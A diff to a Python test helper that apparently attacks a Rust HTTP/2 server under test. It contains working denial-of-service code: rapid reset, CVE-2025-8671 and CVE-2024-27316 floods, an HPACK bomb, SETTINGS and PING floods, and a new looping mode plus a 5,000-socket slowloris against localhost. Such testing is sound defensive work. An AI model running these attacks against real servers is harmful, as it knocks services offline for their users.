@@ -4,8 +4,20 @@ TLS with ALPN h2; HPACK from Debian's python3-hpack). Prints one JSON object
 with what the server did; the Rust test asserts on it.
 
 usage: attacks.py PORT AUTHORITY ATTACK
+       attacks.py PORT AUTHORITY ATTACK --loop SECONDS
+       attacks.py PORT AUTHORITY slowloris --loop SECONDS [--sockets N]
+
+With --loop the attack repeats on fresh connections until SECONDS have
+passed (an attacker process for portier-bench attacks), reading each
+connection's answer only briefly; "armed" is printed to stderr once the
+attack is under way, and one JSON summary of all rounds at the end.
+slowloris (always looping) holds N sockets (default 5000) to the plain
+HTTP port PORT, each with a request head that never ends: one more header
+line per socket and second, a closed socket replaced at once.
 """
 import json
+import resource
+import selectors
 import socket
 import ssl
 import struct
@@ -123,8 +135,14 @@ def fields_by_stream(conn, frames):
     return out
 
 
-def main():
-    port, authority, attack = int(sys.argv[1]), sys.argv[2], sys.argv[3]
+# How long a looping attacker reads each connection's answer (3 s when
+# not looping: the tests assert on what the server sent).
+TAIL = 3
+# HPACK bomb streams per connection (2 when not looping).
+BOMBS = 1
+
+
+def attack_once(port, authority, attack):
     c = Conn(port, authority)
     result = {}
     if attack == "rapid_reset":
@@ -136,7 +154,7 @@ def main():
             if not ok:
                 break
             sent += 1
-        result = summary(c.read_frames(3))
+        result = summary(c.read_frames(TAIL))
         result["sent"] = sent
     elif attack == "made_you_reset":
         # CVE-2025-8671: make the server reset streams (zero WINDOW_UPDATE).
@@ -144,7 +162,7 @@ def main():
             sid = 1 + 2 * i
             if not c.send(c.request(sid, "/slow/500", end_stream=False) + frame(WINDOW_UPDATE, 0, sid, struct.pack(">I", 0))):
                 break
-        result = summary(c.read_frames(3))
+        result = summary(c.read_frames(TAIL))
     elif attack == "continuation_flood":
         # CVE-2024-27316: a header block that never ends.
         block = c.headers_block("/")
@@ -155,7 +173,7 @@ def main():
             if not c.send(frame(CONTINUATION, 0, 1, junk)):
                 break
             sent += 1
-        result = summary(c.read_frames(3))
+        result = summary(c.read_frames(TAIL))
         result["continuations_sent"] = sent
     elif attack == "hpack_bomb":
         # One 4 KB value in the dynamic table, then a block referencing it
@@ -165,20 +183,20 @@ def main():
         c.send(frame(HEADERS, END_HEADERS | END_STREAM, 1, first))
         # Indexed field 62 (first dynamic entry) repeated: 1 byte each.
         bomb = c.enc.encode([(":method", "GET"), (":scheme", "https"), (":authority", authority), (":path", "/")]) + bytes([0x80 | 62]) * 2000
-        c.send(frame(HEADERS, END_HEADERS | END_STREAM, 3, bomb))
-        frames = c.read_frames(3)
+        c.send(b"".join(frame(HEADERS, END_HEADERS | END_STREAM, 3 + 2 * i, bomb) for i in range(BOMBS)))
+        frames = c.read_frames(TAIL)
         result = summary(frames)
         result["statuses"] = {str(k): v for k, v in statuses(c, frames).items()}
     elif attack == "settings_flood":
         for _ in range(20000):
             if not c.send(frame(SETTINGS, 0, 0)):
                 break
-        result = summary(c.read_frames(3))
+        result = summary(c.read_frames(TAIL))
     elif attack == "ping_flood":
         for i in range(20000):
             if not c.send(frame(PING, 0, 0, struct.pack(">Q", i))):
                 break
-        result = summary(c.read_frames(3))
+        result = summary(c.read_frames(TAIL))
     elif attack == "empty_data_flood":
         c.send(c.request(1, "/slow/2000", end_stream=False))
         for _ in range(20000):
@@ -264,6 +282,127 @@ def main():
         result["reaped_after"] = (c.times[frames.index(cancels[-1])] - t0) if cancels else None
     else:
         raise SystemExit(f"unknown attack {attack}")
+    c.s.close()
+    return result
+
+
+def loop(port, authority, attack, seconds):
+    """Repeat the attack on fresh connections until `seconds` pass."""
+    global TAIL, BOMBS
+    TAIL, BOMBS = 0.3, 100
+    deadline = time.time() + seconds
+    rounds, errors, closed = 0, 0, 0
+    goaway = {}
+    armed = False
+    while time.time() < deadline:
+        if not armed:
+            print("armed", file=sys.stderr, flush=True)
+            armed = True
+        try:
+            r = attack_once(port, authority, attack)
+        except (OSError, AssertionError):
+            errors += 1
+            time.sleep(0.05)
+            continue
+        rounds += 1
+        closed += 1 if r.get("closed") else 0
+        code = str(r.get("goaway_code"))
+        goaway[code] = goaway.get(code, 0) + 1
+    return {"attack": attack, "rounds": rounds, "connect_errors": errors,
+            "closed_by_server": closed, "goaway_codes": goaway}
+
+
+def slowloris(port, seconds, sockets):
+    """Hold `sockets` connections with request heads that never end."""
+    soft, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
+    if soft < sockets + 100:
+        resource.setrlimit(resource.RLIMIT_NOFILE, (min(hard, sockets + 1000), hard))
+    # SECONDS count from the moment every socket holds its head (opening
+    # 5,000 takes a moment); at most a minute to get there.
+    deadline = time.time() + 60
+    live = {}
+    opened, failed, closed_by_server, lines_sent = 0, 0, 0, 0
+    sel = selectors.DefaultSelector()
+
+    def open_one():
+        nonlocal opened, failed
+        s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
+        s.setblocking(False)
+        try:
+            s.connect_ex(("127.0.0.1", port))
+        except OSError:
+            failed += 1
+            s.close()
+            return
+        opened += 1
+        live[s.fileno()] = (s, False)
+        sel.register(s, selectors.EVENT_READ | selectors.EVENT_WRITE)
+
+    def drop(fd):
+        s, _ = live.pop(fd)
+        sel.unregister(s)
+        s.close()
+
+    for _ in range(sockets):
+        open_one()
+    armed_at = None
+    next_tick = time.time() + 1
+    while time.time() < deadline:
+        for key, ev in sel.select(timeout=0.05):
+            fd = key.fd
+            if fd not in live:
+                continue
+            s, started = live[fd]
+            if ev & selectors.EVENT_READ:
+                # Anything from the server (a 408, a close) ends this socket.
+                try:
+                    data = s.recv(4096)
+                except OSError:
+                    data = b""
+                closed_by_server += 1
+                drop(fd)
+                open_one()
+                continue
+            if ev & selectors.EVENT_WRITE and not started:
+                try:
+                    s.send(b"GET / HTTP/1.1\r\nHost: slow.localhost\r\n")
+                except OSError:
+                    drop(fd)
+                    open_one()
+                    continue
+                live[fd] = (s, True)
+                sel.modify(s, selectors.EVENT_READ)
+        if armed_at is None and all(st for _, st in live.values()) and len(live) >= sockets:
+            armed_at = time.time()
+            deadline = armed_at + seconds
+            print("armed", file=sys.stderr, flush=True)
+        if time.time() >= next_tick:
+            next_tick += 1
+            for fd, (s, started) in list(live.items()):
+                if started:
+                    try:
+                        s.send(b"X-a: b\r\n")
+                        lines_sent += 1
+                    except OSError:
+                        pass
+    held = sum(1 for _, st in live.values() if st)
+    for fd in list(live):
+        drop(fd)
+    return {"attack": "slowloris", "sockets": sockets, "armed": armed_at is not None,
+            "held_at_end": held, "opened": opened,
+            "connect_failed": failed, "closed_by_server": closed_by_server,
+            "header_lines_sent": lines_sent}
+
+
+def main():
+    port, authority, attack = int(sys.argv[1]), sys.argv[2], sys.argv[3]
+    opts = dict(zip(sys.argv[4::2], sys.argv[5::2]))
+    if attack == "slowloris":
+        result = slowloris(port, float(opts.get("--loop", "10")), int(opts.get("--sockets", "5000")))
+    elif "--loop" in opts:
+        result = loop(port, authority, attack, float(opts["--loop"]))
+    else:
+        result = attack_once(port, authority, attack)
     print(json.dumps(result))
 
 
